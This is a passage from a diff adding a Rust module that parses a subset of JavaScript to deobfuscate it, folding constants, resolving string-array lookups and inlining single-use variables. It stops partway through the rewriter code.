@@ -0,0 +1,1542 @@
+//! A small JavaScript parser for deobfuscation. It covers enough of the
+//! language to fold constant expressions, resolve string-array lookups and
+//! inline single-use variables, then prints the program back out formatted.
+//! Anything outside that subset (regex and template literals, arrow
+//! functions, classes, ...) is a parse error, and callers fall back to the
+//! regex heuristics.
+
+use std::collections::{HashMap, HashSet};
+
+/// Rewrite passes before giving up on reaching a fixed point
+const MAX_PASSES: usize = 8;
+
+/// Deepest statement/expression nesting parsed before bailing out, so
+/// hostile input can't overflow the stack. Each link of a binary operator
+/// or member/call chain counts as a level too: `a+b+c+...` parses in a
+/// loop but nests one node deeper per term, and folding and printing the
+/// tree recurse that deep.
+const MAX_NESTING: usize = 200;
+
+const PUNCTUATORS: &[&str] = &[
+    ">>>=", "...", "===", "!==", "**=", "<<=", ">>=", ">>>", "=>", "==", "!=", "<=", ">=", "&&",
+    "||", "??", "++", "--", "+=", "-=", "*=", "/=", "%=", "&=", "|=", "^=", "<<", ">>", "**", "{",
+    "}", "(", ")", "[", "]", ";", ",", "<", ">", "+", "-", "*", "/", "%", "&", "|", "^", "!", "~",
+    "?", ":", "=", ".",
+];
+
+const ASSIGNMENT_OPERATORS: &[&str] = &[
+    "=", "+=", "-=", "*=", "/=", "%=", "**=", "<<=", ">>=", ">>>=", "&=", "|=", "^=",
+];
+
+const RESERVED_WORDS: &[&str] = &[
+    "break", "case", "catch", "class", "const", "continue", "debugger", "default", "delete", "do",
+    "else", "export", "extends", "false", "finally", "for", "function", "if", "import", "in",
+    "instanceof", "let", "new", "null", "return", "super", "switch", "this", "throw", "true", "try",
+    "typeof", "var", "void", "while", "with", "yield",
+];
+
+/// The deobfuscated program and how many rewrites produced it. Zero
+/// rewrites means the input parsed but had nothing to simplify; `code` is
+/// then just the input reformatted.
+#[derive(Debug, Clone)]
+pub struct JsAstOutput {
+    pub code: String,
+    pub rewrites: usize,
+}
+
+/// Parse `source`, simplify it until nothing changes and print the result
+pub fn deobfuscate(source: &str) -> Result<JsAstOutput, String> {
+    let mut program = Parser::new(tokenize(source)?).program()?;
+    let mut consumed = HashSet::new();
+    let mut rewrites = 0;
+
+    for _ in 0..MAX_PASSES {
+        let bindings = Bindings::collect(&program);
+        let arrays = bindings.constant_arrays();
+        let inline = bindings.single_use_literals();
+        consumed.extend(arrays.keys().cloned());
+        consumed.extend(inline.keys().cloned());
+
+        let mut rewriter = Rewriter { arrays: &arrays, inline: &inline, rewrites: 0 };
+        rewriter.stmts(&mut program);
+
+        // A declaration whose every use was resolved away can go, unless
+        // eval or Function could still reach it by name
+        let bindings = Bindings::collect(&program);
+        let mut removed = 0;
+        if !bindings.dynamic_code {
+            let unused: HashSet<&str> = consumed
+                .iter()
+                .filter(|name| bindings.names.get(*name).is_some_and(|b| b.references == 0))
+                .map(String::as_str)
+                .collect();
+            removed = remove_declarations(&mut program, &unused);
+        }
+
+        rewrites += rewriter.rewrites + removed;
+        if rewriter.rewrites + removed == 0 {
+            break;
+        }
+    }
+
+    Ok(JsAstOutput { code: print_program(&program), rewrites })
+}
+
+#[derive(Debug, Clone, PartialEq)]
+enum Token {
+    Ident(String),
+    Num(f64),
+    Str(String),
+    Punct(&'static str),
+}
+
+fn tokenize(source: &str) -> Result<Vec<Token>, String> {
+    let chars: Vec<char> = source.chars().collect();
+    let mut tokens = Vec::new();
+    let mut i = 0;
+
+    while i < chars.len() {
+        let c = chars[i];
+        let next = chars.get(i + 1).copied();
+        if c.is_whitespace() || c == '\u{feff}' {
+            i += 1;
+        } else if c == '/' && next == Some('/') {
+            while i < chars.len() && chars[i] != '\n' {
+                i += 1;
+            }
+        } else if c == '/' && next == Some('*') {
+            let end = (i + 2..chars.len().saturating_sub(1))
+                .find(|&j| chars[j] == '*' && chars[j + 1] == '/')
+                .ok_or("unterminated comment")?;
+            i = end + 2;
+        } else if c.is_alphabetic() || c == '_' || c == '$' {
+            let start = i;
+            while i < chars.len() && (chars[i].is_alphanumeric() || chars[i] == '_' || chars[i] == '$') {
+                i += 1;
+            }
+            tokens.push(Token::Ident(chars[start..i].iter().collect()));
+        } else if c.is_ascii_digit() || (c == '.' && next.is_some_and(|n| n.is_ascii_digit())) {
+            let (value, end) = number(&chars, i)?;
+            tokens.push(Token::Num(value));
+            i = end;
+        } else if c == '"' || c == '\'' {
+            let (value, end) = string(&chars, i)?;
+            tokens.push(Token::Str(value));
+            i = end;
+        } else if let Some(punct) = PUNCTUATORS
+            .iter()
+            .find(|p| p.chars().enumerate().all(|(k, pc)| chars.get(i + k) == Some(&pc)))
+        {
+            tokens.push(Token::Punct(punct));
+            i += punct.len();
+        } else {
+            return Err(format!("unexpected character {:?}", c));
+        }
+    }
+
+    Ok(tokens)
+}
+
+fn number(chars: &[char], start: usize) -> Result<(f64, usize), String> {
+    if chars[start] == '0' && matches!(chars.get(start + 1), Some('x' | 'X')) {
+        let mut end = start + 2;
+        while end < chars.len() && chars[end].is_ascii_hexdigit() {
+            end += 1;
+        }
+        let digits: String = chars[start + 2..end].iter().collect();
+        let value = u64::from_str_radix(&digits, 16).map_err(|_| format!("bad hex literal 0x{}", digits))?;
+        return Ok((value as f64, end));
+    }
+
+    let mut end = start;
+    while end < chars.len() && (chars[end].is_ascii_digit() || chars[end] == '.') {
+        end += 1;
+    }
+    if end < chars.len() && matches!(chars[end], 'e' | 'E') {
+        end += 1;
+        if end < chars.len() && matches!(chars[end], '+' | '-') {
+            end += 1;
+        }
+        while end < chars.len() && chars[end].is_ascii_digit() {
+            end += 1;
+        }
+    }
+    let literal: String = chars[start..end].iter().collect();
+    let value = literal.parse().map_err(|_| format!("bad number literal {}", literal))?;
+    Ok((value, end))
+}
+
+fn string(chars: &[char], start: usize) -> Result<(String, usize), String> {
+    let quote = chars[start];
+    let mut value = String::new();
+    let mut i = start + 1;
+
+    loop {
+        let c = *chars.get(i).ok_or("unterminated string")?;
+        i += 1;
+        match c {
+            _ if c == quote => return Ok((value, i)),
+            '\n' => return Err("unterminated string".to_string()),
+            '\\' => {
+                let escaped = *chars.get(i).ok_or("unterminated string")?;
+                i += 1;
+                match escaped {
+                    'n' => value.push('\n'),
+                    'r' => value.push('\r'),
+                    't' => value.push('\t'),
+                    'b' => value.push('\u{8}'),
+                    'f' => value.push('\u{c}'),
+                    'v' => value.push('\u{b}'),
+                    '0' if !chars.get(i).is_some_and(|d| d.is_ascii_digit()) => value.push('\0'),
+                    'x' => {
+                        let code = hex_digits(chars, i, 2)?;
+                        value.push(char::from_u32(code).ok_or("bad \\x escape")?);
+                        i += 2;
+                    }
+                    'u' => {
+                        let (c, end) = unicode_escape(chars, i)?;
+                        value.push(c);
+                        i = end;
+                    }
+                    // Line continuation
+                    '\r' => {
+                        if chars.get(i) == Some(&'\n') {
+                            i += 1;
+                        }
+                    }
+                    '\n' | '\u{2028}' | '\u{2029}' => {}
+                    other => value.push(other),
+                }
+            }
+            _ => value.push(c),
+        }
+    }
+}
+
+fn hex_digits(chars: &[char], start: usize, count: usize) -> Result<u32, String> {
+    let digits: String = chars.get(start..start + count).ok_or("truncated escape")?.iter().collect();
+    u32::from_str_radix(&digits, 16).map_err(|_| format!("bad escape digits {}", digits))
+}
+
+/// `\uXXXX`, `\u{X...}`, or a surrogate pair of `\uXXXX` escapes; `start`
+/// is just past the `u`
+fn unicode_escape(chars: &[char], start: usize) -> Result<(char, usize), String> {
+    if chars.get(start) == Some(&'{') {
+        let end = (start + 1..chars.len()).find(|&j| chars[j] == '}').ok_or("unterminated \\u{} escape")?;
+        let code = hex_digits(chars, start + 1, end - start - 1)?;
+        return Ok((char::from_u32(code).ok_or("bad \\u{} escape")?, end + 1));
+    }
+
+    let unit = hex_digits(chars, start, 4)?;
+    if (0xD800..0xDC00).contains(&unit) && chars.get(start + 4) == Some(&'\\') && chars.get(start + 5) == Some(&'u') {
+        let low = hex_digits(chars, start + 6, 4)?;
+        if (0xDC00..0xE000).contains(&low) {
+            let code = 0x10000 + ((unit - 0xD800) << 10) + (low - 0xDC00);
+            return Ok((char::from_u32(code).ok_or("bad surrogate pair")?, start + 10));
+        }
+    }
+    // Lone surrogates can't be held in a Rust string
+    Ok((char::from_u32(unit).ok_or("lone surrogate in \\u escape")?, start + 4))
+}
+
+#[derive(Debug, Clone, PartialEq)]
+struct Function {
+    name: Option<String>,
+    params: Vec<String>,
+    body: Vec<Stmt>,
+}
+
+#[derive(Debug, Clone, PartialEq)]
+enum Expr {
+    Num(f64),
+    Str(String),
+    Bool(bool),
+    Null,
+    This,
+    Ident(String),
+    Array(Vec<Expr>),
+    Object(Vec<(String, Expr)>),
+    Function(Function),
+    Unary(&'static str, Box<Expr>),
+    Update { op: &'static str, prefix: bool, target: Box<Expr> },
+    Binary(&'static str, Box<Expr>, Box<Expr>),
+    Assign(&'static str, Box<Expr>, Box<Expr>),
+    Conditional(Box<Expr>, Box<Expr>, Box<Expr>),
+    Call(Box<Expr>, Vec<Expr>),
+    New(Box<Expr>, Vec<Expr>),
+    /// `a.b` is held as `a["b"]`
+    Member(Box<Expr>, Box<Expr>),
+    Sequence(Vec<Expr>),
+}
+
+#[derive(Debug, Clone, PartialEq)]
+enum Stmt {
+    Var { kind: &'static str, decls: Vec<(String, Option<Expr>)> },
+    Expr(Expr),
+    Function(Function),
+    Return(Option<Expr>),
+    If(Expr, Box<Stmt>, Option<Box<Stmt>>),
+    While(Expr, Box<Stmt>),
+    For { init: Option<Box<Stmt>>, test: Option<Expr>, update: Option<Expr>, body: Box<Stmt> },
+    Block(Vec<Stmt>),
+    Break,
+    Continue,
+    Throw(Expr),
+}
+
+impl Expr {
+    fn is_literal(&self) -> bool {
+        matches!(self, Expr::Num(_) | Expr::Str(_) | Expr::Bool(_) | Expr::Null)
+    }
+}
+
+fn binary_precedence(op: &str) -> Option<u8> {
+    Some(match op {
+        "??" | "||" => 4,
+        "&&" => 5,
+        "|" => 6,
+        "^" => 7,
+        "&" => 8,
+        "==" | "!=" | "===" | "!==" => 9,
+        "<" | ">" | "<=" | ">=" | "instanceof" | "in" => 10,
+        "<<" | ">>" | ">>>" => 11,
+        "+" | "-" => 12,
+        "*" | "/" | "%" => 13,
+        "**" => 14,
+        _ => return None,
+    })
+}
+
+fn precedence(expr: &Expr) -> u8 {
+    match expr {
+        Expr::Sequence(_) => 1,
+        Expr::Assign(..) => 2,
+        Expr::Conditional(..) => 3,
+        Expr::Binary(op, ..) => binary_precedence(op).unwrap_or(4),
+        Expr::Unary(..) | Expr::Update { prefix: true, .. } => 15,
+        Expr::Num(n) if n.is_sign_negative() => 15,
+        Expr::Update { prefix: false, .. } => 16,
+        Expr::Call(..) | Expr::New(..) | Expr::Member(..) => 17,
+        _ => 18,
+    }
+}
+
+struct Parser {
+    tokens: Vec<Token>,
+    pos: usize,
+    depth: usize,
+}
+
+impl Parser {
+    fn new(tokens: Vec<Token>) -> Self {
+        Self { tokens, pos: 0, depth: 0 }
+    }
+
+    fn program(mut self) -> Result<Vec<Stmt>, String> {
+        let mut stmts = Vec::new();
+        while self.pos < self.tokens.len() {
+            if !self.eat_punct(";") {
+                stmts.push(self.statement()?);
+            }
+        }
+        Ok(stmts)
+    }
+
+    fn peek(&self) -> Option<&Token> {
+        self.tokens.get(self.pos)
+    }
+
+    fn next(&mut self) -> Result<Token, String> {
+        let token = self.tokens.get(self.pos).cloned().ok_or("unexpected end of input")?;
+        self.pos += 1;
+        Ok(token)
+    }
+
+    fn is_punct(&self, punct: &str) -> bool {
+        matches!(self.peek(), Some(Token::Punct(p)) if *p == punct)
+    }
+
+    fn eat_punct(&mut self, punct: &str) -> bool {
+        let found = self.is_punct(punct);
+        if found {
+            self.pos += 1;
+        }
+        found
+    }
+
+    fn expect_punct(&mut self, punct: &str) -> Result<(), String> {
+        if self.eat_punct(punct) {
+            Ok(())
+        } else {
+            Err(format!("expected `{}`, found {:?}", punct, self.peek()))
+        }
+    }
+
+    fn is_keyword(&self, keyword: &str) -> bool {
+        matches!(self.peek(), Some(Token::Ident(name)) if name == keyword)
+    }
+
+    fn eat_keyword(&mut self, keyword: &str) -> bool {
+        let found = self.is_keyword(keyword);
+        if found {
+            self.pos += 1;
+        }
+        found
+    }
+
+    fn identifier(&mut self) -> Result<String, String> {
+        match self.next()? {
+            Token::Ident(name) if !RESERVED_WORDS.contains(&name.as_str()) => Ok(name),
+            other => Err(format!("expected identifier, found {:?}", other)),
+        }
+    }
+
+    fn enter(&mut self) -> Result<(), String> {
+        self.depth += 1;
+        if self.depth > MAX_NESTING {
+            return Err("nesting too deep".to_string());
+        }
+        Ok(())
+    }
+
+    fn statement(&mut self) -> Result<Stmt, String> {
+        self.enter()?;
+        let stmt = self.statement_inner();
+        self.depth -= 1;
+        stmt
+    }
+
+    fn statement_inner(&mut self) -> Result<Stmt, String> {
+        if self.eat_punct("{") {
+            return Ok(Stmt::Block(self.block_rest()?));
+        }
+        if self.is_keyword("var") || self.is_keyword("let") || self.is_keyword("const") {
+            let stmt = self.var_declaration()?;
+            self.eat_punct(";");
+            return Ok(stmt);
+        }
+        if self.eat_keyword("function") {
+            return Ok(Stmt::Function(self.function_rest(true)?));
+        }
+        if self.eat_keyword("return") {
+            let value = if self.is_punct(";") || self.is_punct("}") || self.peek().is_none() {
+                None
+            } else {
+                Some(self.expression()?)
+            };
+            self.eat_punct(";");
+            return Ok(Stmt::Return(value));
+        }
+        if self.eat_keyword("if") {
+            let test = self.parenthesized()?;
+            let consequent = Box::new(self.statement()?);
+            let alternate = if self.eat_keyword("else") { Some(Box::new(self.statement()?)) } else { None };
+            return Ok(Stmt::If(test, consequent, alternate));
+        }
+        if self.eat_keyword("while") {
+            let test = self.parenthesized()?;
+            return Ok(Stmt::While(test, Box::new(self.statement()?)));
+        }
+        if self.eat_keyword("for") {
+            return self.for_rest();
+        }
+        if self.eat_keyword("break") {
+            self.eat_punct(";");
+            return Ok(Stmt::Break);
+        }
+        if self.eat_keyword("continue") {
+            self.eat_punct(";");
+            return Ok(Stmt::Continue);
+        }
+        if self.eat_keyword("throw") {
+            let value = self.expression()?;
+            self.eat_punct(";");
+            return Ok(Stmt::Throw(value));
+        }
+        if let Some(Token::Ident(name)) = self.peek() {
+            if RESERVED_WORDS.contains(&name.as_str()) && !is_expression_keyword(name) {
+                return Err(format!("unsupported statement `{}`", name));
+            }
+        }
+
+        let expr = self.expression()?;
+        self.eat_punct(";");
+        Ok(Stmt::Expr(expr))
+    }
+
+    fn block_rest(&mut self) -> Result<Vec<Stmt>, String> {
+        let mut stmts = Vec::new();
+        while !self.eat_punct("}") {
+            if self.peek().is_none() {
+                return Err("unterminated block".to_string());
+            }
+            if !self.eat_punct(";") {
+                stmts.push(self.statement()?);
+            }
+        }
+        Ok(stmts)
+    }
+
+    fn var_declaration(&mut self) -> Result<Stmt, String> {
+        let kind = match self.next()? {
+            Token::Ident(k) if k == "var" => "var",
+            Token::Ident(k) if k == "let" => "let",
+            _ => "const",
+        };
+        let mut decls = Vec::new();
+        loop {
+            let name = self.identifier()?;
+            let init = if self.eat_punct("=") { Some(self.assignment()?) } else { None };
+            decls.push((name, init));
+            if !self.eat_punct(",") {
+                return Ok(Stmt::Var { kind, decls });
+            }
+        }
+    }
+
+    fn for_rest(&mut self) -> Result<Stmt, String> {
+        self.expect_punct("(")?;
+        let init = if self.is_punct(";") {
+            None
+        } else if self.is_keyword("var") || self.is_keyword("let") || self.is_keyword("const") {
+            Some(Box::new(self.var_declaration()?))
+        } else {
+            Some(Box::new(Stmt::Expr(self.expression()?)))
+        };
+        // `for (x in o)` and `for (x of o)` stop here
+        self.expect_punct(";")?;
+        let test = if self.is_punct(";") { None } else { Some(self.expression()?) };
+        self.expect_punct(";")?;
+        let update = if self.is_punct(")") { None } else { Some(self.expression()?) };
+        self.expect_punct(")")?;
+        let body = Box::new(self.statement()?);
+        Ok(Stmt::For { init, test, update, body })
+    }
+
+    /// After `function`: optional name, parameters, body
+    fn function_rest(&mut self, name_required: bool) -> Result<Function, String> {
+        let name = if name_required || matches!(self.peek(), Some(Token::Ident(_))) {
+            Some(self.identifier()?)
+        } else {
+            None
+        };
+        self.expect_punct("(")?;
+        let mut params = Vec::new();
+        while !self.eat_punct(")") {
+            params.push(self.identifier()?);
+            if !self.eat_punct(",") {
+                self.expect_punct(")")?;
+                break;
+            }
+        }
+        self.expect_punct("{")?;
+        let body = self.block_rest()?;
+        Ok(Function { name, params, body })
+    }
+
+    fn parenthesized(&mut self) -> Result<Expr, String> {
+        self.expect_punct("(")?;
+        let expr = self.expression()?;
+        self.expect_punct(")")?;
+        Ok(expr)
+    }
+
+    fn expression(&mut self) -> Result<Expr, String> {
+        let first = self.assignment()?;
+        if !self.is_punct(",") {
+            return Ok(first);
+        }
+        let mut exprs = vec![first];
+        while self.eat_punct(",") {
+            exprs.push(self.assignment()?);
+        }
+        Ok(Expr::Sequence(exprs))
+    }
+
+    fn assignment(&mut self) -> Result<Expr, String> {
+        self.enter()?;
+        let expr = self.assignment_inner();
+        self.depth -= 1;
+        expr
+    }
+
+    fn assignment_inner(&mut self) -> Result<Expr, String> {
+        let target = self.conditional()?;
+        let op = match self.peek() {
+            Some(Token::Punct(p)) if ASSIGNMENT_OPERATORS.contains(p) => *p,
+            _ => return Ok(target),
+        };
+        if !matches!(target, Expr::Ident(_) | Expr::Member(..)) {
+            return Err("invalid assignment target".to_string());
+        }
+        self.pos += 1;
+        let value = self.assignment()?;
+        Ok(Expr::Assign(op, Box::new(target), Box::new(value)))
+    }
+
+    fn conditional(&mut self) -> Result<Expr, String> {
+        let test = self.binary(4)?;
+        if !self.eat_punct("?") {
+            return Ok(test);
+        }
+        let consequent = self.assignment()?;
+        self.expect_punct(":")?;
+        let alternate = self.assignment()?;
+        Ok(Expr::Conditional(Box::new(test), Box::new(consequent), Box::new(alternate)))
+    }
+
+    fn binary_operator(&self) -> Option<&'static str> {
+        match self.peek()? {
+            Token::Punct(p) => binary_precedence(p).map(|_| *p),
+            Token::Ident(name) if name == "instanceof" => Some("instanceof"),
+            Token::Ident(name) if name == "in" => Some("in"),
+            _ => None,
+        }
+    }
+
+    fn binary(&mut self, min_precedence: u8) -> Result<Expr, String> {
+        let depth = self.depth;
+        let expr = self.binary_inner(min_precedence);
+        self.depth = depth;
+        expr
+    }
+
+    fn binary_inner(&mut self, min_precedence: u8) -> Result<Expr, String> {
+        let mut left = self.unary()?;
+        while let Some(op) = self.binary_operator() {
+            let op_precedence = binary_precedence(op).unwrap_or(0);
+            if op_precedence < min_precedence {
+                break;
+            }
+            self.pos += 1;
+            self.enter()?;
+            // `**` is the one right-associative binary operator
+            let next_min = if op == "**" { op_precedence } else { op_precedence + 1 };
+            let right = self.binary(next_min)?;
+            left = Expr::Binary(op, Box::new(left), Box::new(right));
+        }
+        Ok(left)
+    }
+
+    fn unary(&mut self) -> Result<Expr, String> {
+        self.enter()?;
+        let expr = self.unary_inner();
+        self.depth -= 1;
+        expr
+    }
+
+    fn unary_inner(&mut self) -> Result<Expr, String> {
+        let op = match self.peek() {
+            Some(Token::Punct(p @ ("!" | "-" | "+" | "~" | "++" | "--"))) => *p,
+            Some(Token::Ident(name)) if name == "typeof" => "typeof",
+            Some(Token::Ident(name)) if name == "void" => "void",
+            Some(Token::Ident(name)) if name == "delete" => "delete",
+            _ => return self.postfix(),
+        };
+        self.pos += 1;
+        let operand = Box::new(self.unary()?);
+        Ok(match op {
+            "++" | "--" => Expr::Update { op, prefix: true, target: operand },
+            _ => Expr::Unary(op, operand),
+        })
+    }
+
+    fn postfix(&mut self) -> Result<Expr, String> {
+        let expr = self.call_member()?;
+        for op in ["++", "--"] {
+            if self.eat_punct(op) {
+                return Ok(Expr::Update { op, prefix: false, target: Box::new(expr) });
+            }
+        }
+        Ok(expr)
+    }
+
+    fn call_member(&mut self) -> Result<Expr, String> {
+        let depth = self.depth;
+        let expr = self.call_member_inner();
+        self.depth = depth;
+        expr
+    }
+
+    fn call_member_inner(&mut self) -> Result<Expr, String> {
+        let mut expr = if self.eat_keyword("new") { self.new_rest()? } else { self.primary()? };
+        loop {
+            if self.is_punct(".") || self.is_punct("[") || self.is_punct("(") {
+                self.enter()?;
+            }
+            if self.eat_punct(".") {
+                expr = Expr::Member(Box::new(expr), Box::new(Expr::Str(self.property_name()?)));
+            } else if self.eat_punct("[") {
+                let property = self.expression()?;
+                self.expect_punct("]")?;
+                expr = Expr::Member(Box::new(expr), Box::new(property));
+            } else if self.eat_punct("(") {
+                expr = Expr::Call(Box::new(expr), self.arguments()?);
+            } else {
+                return Ok(expr);
+            }
+        }
+    }
+
+    /// After `new`: the constructor, which may be a member chain but not a
+    /// call, then optional arguments
+    fn new_rest(&mut self) -> Result<Expr, String> {
+        let depth = self.depth;
+        let expr = self.new_rest_inner();
+        self.depth = depth;
+        expr
+    }
+
+    fn new_rest_inner(&mut self) -> Result<Expr, String> {
+        self.enter()?;
+        let mut callee = if self.eat_keyword("new") { self.new_rest()? } else { self.primary()? };
+        loop {
+            if self.is_punct(".") || self.is_punct("[") {
+                self.enter()?;
+            }
+            if self.eat_punct(".") {
+                callee = Expr::Member(Box::new(callee), Box::new(Expr::Str(self.property_name()?)));
+            } else if self.eat_punct("[") {
+                let property = self.expression()?;
+                self.expect_punct("]")?;
+                callee = Expr::Member(Box::new(callee), Box::new(property));
+            } else {
+                break;
+            }
+        }
+        let args = if self.eat_punct("(") { self.arguments()? } else { Vec::new() };
+        Ok(Expr::New(Box::new(callee), args))
+    }
+
+    /// After `.`; reserved words are fine as property names
+    fn property_name(&mut self) -> Result<String, String> {
+        match self.next()? {
+            Token::Ident(name) => Ok(name),
+            other => Err(format!("expected property name, found {:?}", other)),
+        }
+    }
+
+    /// After `(`
+    fn arguments(&mut self) -> Result<Vec<Expr>, String> {
+        let mut args = Vec::new();
+        while !self.eat_punct(")") {
+            args.push(self.assignment()?);
+            if !self.eat_punct(",") {
+                self.expect_punct(")")?;
+                break;
+            }
+        }
+        Ok(args)
+    }
+
+    fn primary(&mut self) -> Result<Expr, String> {
+        match self.next()? {
+            Token::Num(value) => Ok(Expr::Num(value)),
+            Token::Str(value) => Ok(Expr::Str(value)),
+            Token::Ident(name) => match name.as_str() {
+                "true" => Ok(Expr::Bool(true)),
+                "false" => Ok(Expr::Bool(false)),
+                "null" => Ok(Expr::Null),
+                "this" => Ok(Expr::This),
+                "function" => Ok(Expr::Function(self.function_rest(false)?)),
+                _ if RESERVED_WORDS.contains(&name.as_str()) => Err(format!("unexpected keyword `{}`", name)),
+                _ => Ok(Expr::Ident(name)),
+            },
+            Token::Punct("(") => {
+                let expr = self.expression()?;
+                self.expect_punct(")")?;
+                Ok(expr)
+            }
+            Token::Punct("[") => {
+                let mut elements = Vec::new();
+                while !self.eat_punct("]") {
+                    elements.push(self.assignment()?);
+                    if !self.eat_punct(",") {
+                        self.expect_punct("]")?;
+                        break;
+                    }
+                }
+                Ok(Expr::Array(elements))
+            }
+            Token::Punct("{") => {
+                let mut properties = Vec::new();
+                while !self.eat_punct("}") {
+                    let key = match self.next()? {
+                        Token::Ident(name) | Token::Str(name) => name,
+                        Token::Num(value) => format_number(value),
+                        other => return Err(format!("unsupported property key {:?}", other)),
+                    };
+                    self.expect_punct(":")?;
+                    properties.push((key, self.assignment()?));
+                    if !self.eat_punct(",") {
+                        self.expect_punct("}")?;
+                        break;
+                    }
+                }
+                Ok(Expr::Object(properties))
+            }
+            other => Err(format!("unexpected token {:?}", other)),
+        }
+    }
+}
+
+fn is_expression_keyword(name: &str) -> bool {
+    matches!(name, "true" | "false" | "null" | "this" | "new" | "typeof" | "void" | "delete")
+}
+
+/// How each name in the program is declared and used. Names are tracked
+/// program-wide rather than per scope, so a name declared more than once
+/// (a shadowing parameter, say) is never rewritten.
+#[derive(Default)]
+struct Bindings {
+    names: HashMap<String, Binding>,
+    /// `eval` or `Function` appears, so code may name variables in strings
+    dynamic_code: bool,
+    /// The function body being walked, 0 for the top level
+    scope: usize,
+    scopes_seen: usize,
+}
+
+#[derive(Default)]
+struct Binding {
+    declarations: usize,
+    references: usize,
+    /// References of the form `name[<number>]`
+    indexed_reads: usize,
+    mutated: bool,
+    init: Option<Expr>,
+    /// Function scope of the first declaration
+    scope: Option<usize>,
+    /// Read ahead of its declaration or from another function, where a
+    /// hoisted `var` may still be undefined when the read runs
+    unordered_read: bool,
+}
+
+impl Bindings {
+    fn collect(program: &[Stmt]) -> Self {
+        let mut bindings = Self::default();
+        bindings.stmts(program);
+        bindings
+    }
+
+    fn declare(&mut self, name: &str, init: Option<&Expr>) {
+        let binding = self.names.entry(name.to_string()).or_default();
+        binding.declarations += 1;
+        if binding.init.is_none() {
+            binding.init = init.cloned();
+        }
+        binding.scope.get_or_insert(self.scope);
+    }
+
+    /// Arrays of literals only ever read at constant indexes
+    fn constant_arrays(&self) -> HashMap<String, Vec<Expr>> {
+        self.names
+            .iter()
+            .filter(|(_, b)| b.declarations == 1 && !b.mutated && b.references > 0 && b.references == b.indexed_reads)
+            .filter_map(|(name, b)| match &b.init {
+                Some(Expr::Array(elements)) if elements.iter().all(Expr::is_literal) => {
+                    Some((name.clone(), elements.clone()))
+                }
+                _ => None,
+            })
+            .collect()
+    }
+
+    /// Variables holding a literal that are read exactly once, after the
+    /// declaration and in the same function
+    fn single_use_literals(&self) -> HashMap<String, Expr> {
+        self.names
+            .iter()
+            .filter(|(_, b)| b.declarations == 1 && !b.mutated && b.references == 1 && !b.unordered_read)
+            .filter_map(|(name, b)| b.init.as_ref().filter(|e| e.is_literal()).map(|e| (name.clone(), e.clone())))
+            .collect()
+    }
+
+    fn function(&mut self, function: &Function) {
+        if let Some(name) = &function.name {
+            self.declare(name, None);
+        }
+        self.scopes_seen += 1;
+        let outer = std::mem::replace(&mut self.scope, self.scopes_seen);
+        for param in &function.params {
+            self.declare(param, None);
+        }
+        self.stmts(&function.body);
+        self.scope = outer;
+    }
+
+    fn stmts(&mut self, stmts: &[Stmt]) {
+        for stmt in stmts {
+            self.stmt(stmt);
+        }
+    }
+
+    fn stmt(&mut self, stmt: &Stmt) {
+        match stmt {
+            Stmt::Var { decls, .. } => {
+                for (name, init) in decls {
+                    self.declare(name, init.as_ref());
+                    if let Some(init) = init {
+                        self.expr(init);
+                    }
+                }
+            }
+            Stmt::Expr(e) | Stmt::Throw(e) | Stmt::Return(Some(e)) => self.expr(e),
+            Stmt::Function(f) => self.function(f),
+            Stmt::If(test, consequent, alternate) => {
+                self.expr(test);
+                self.stmt(consequent);
+                if let Some(alternate) = alternate {
+                    self.stmt(alternate);
+                }
+            }
+            Stmt::While(test, body) => {
+                self.expr(test);
+                self.stmt(body);
+            }
+            Stmt::For { init, test, update, body } => {
+                if let Some(init) = init {
+                    self.stmt(init);
+                }
+                for e in test.iter().chain(update) {
+                    self.expr(e);
+                }
+                self.stmt(body);
+            }
+            Stmt::Block(stmts) => self.stmts(stmts),
+            Stmt::Return(None) | Stmt::Break | Stmt::Continue => {}
+        }
+    }
+
+    /// The variable at the root of an assignment target like `a.b[0]`
+    fn mark_mutated(&mut self, target: &Expr) {
+        match target {
+            Expr::Ident(name) => self.names.entry(name.clone()).or_default().mutated = true,
+            Expr::Member(object, _) => self.mark_mutated(object),
+            _ => {}
+        }
+    }
+
+    fn expr(&mut self, expr: &Expr) {
+        match expr {
+            Expr::Ident(name) => {
+                if name == "eval" || name == "Function" {
+                    self.dynamic_code = true;
+                }
+                let binding = self.names.entry(name.clone()).or_default();
+                binding.references += 1;
+                if binding.scope != Some(self.scope) {
+                    binding.unordered_read = true;
+                }
+            }
+            Expr::Member(object, property) => {
+                if let (Expr::Ident(name), Expr::Num(_)) = (&**object, &**property) {
+                    self.names.entry(name.clone()).or_default().indexed_reads += 1;
+                }
+                self.expr(object);
+                self.expr(property);
+            }
+            Expr::Assign(_, target, value) => {
+                self.mark_mutated(target);
+                self.expr(target);
+                self.expr(value);
+            }
+            Expr::Update { target, .. } | Expr::Unary("delete", target) => {
+                self.mark_mutated(target);
+                self.expr(target);
+            }
+            Expr::Unary(_, operand) => self.expr(operand),
+            Expr::Binary(_, left, right) => {
+                self.expr(left);
+                self.expr(right);
+            }
+            Expr::Conditional(test, consequent, alternate) => {
+                self.expr(test);
+                self.expr(consequent);
+                self.expr(alternate);
+            }
+            Expr::Call(callee, args) | Expr::New(callee, args) => {
+                self.expr(callee);
+                for arg in args {
+                    self.expr(arg);
+                }
+            }
+            Expr::Array(elements) | Expr::Sequence(elements) => {
+                for element in elements {
+                    self.expr(element);
+                }
+            }
+            Expr::Object(properties) => {
+                for (_, value) in properties {
+                    self.expr(value);
+                }
+            }
+            Expr::Function(f) => self.function(f),
+            Expr::Num(_) | Expr::Str(_) | Expr::Bool(_) | Expr::Null | Expr::This => {}
+        }
+    }
+}
+
+/// Bottom-up simplification: children first, so a resolved array element
+/// can fold into the concatenation around it in the same pass
+struct Rewriter<'a> {
+    arrays: &'a HashMap<String, Vec<Expr>>,
+    inline: &'a HashMap<String, Expr>,
+    rewrites: usize,
+}
+
+impl Rewriter<'_> {
+    fn stmts(&mut self, stmts: &mut [Stmt]) {
+        for stmt in stmts {
+            self.stmt(stmt);
+        }
+    }
+
+    fn stmt(&mut self, stmt: &mut Stmt) {
+        match stmt {
+            Stmt::Var { decls, .. } => {
+                for init in decls.iter_mut().filter_map(|(_, init)| init.as_mut()) {
+                    self.expr(init);
+                }
+            }
+            Stmt::Expr(e) | Stmt::Throw(e) | Stmt::Return(Some(e)) => self.expr(e),
+            Stmt::Function(f) => self.stmts(&mut f.body),
+            Stmt::If(test, consequent, alternate) => {
+                self.expr(test);
+                self.stmt(consequent);
+                if let Some(alternate) = alternate {
+                    self.stmt(alternate);
+                }
+            }
+            Stmt::While(test, body) => {
+                self.expr(test);
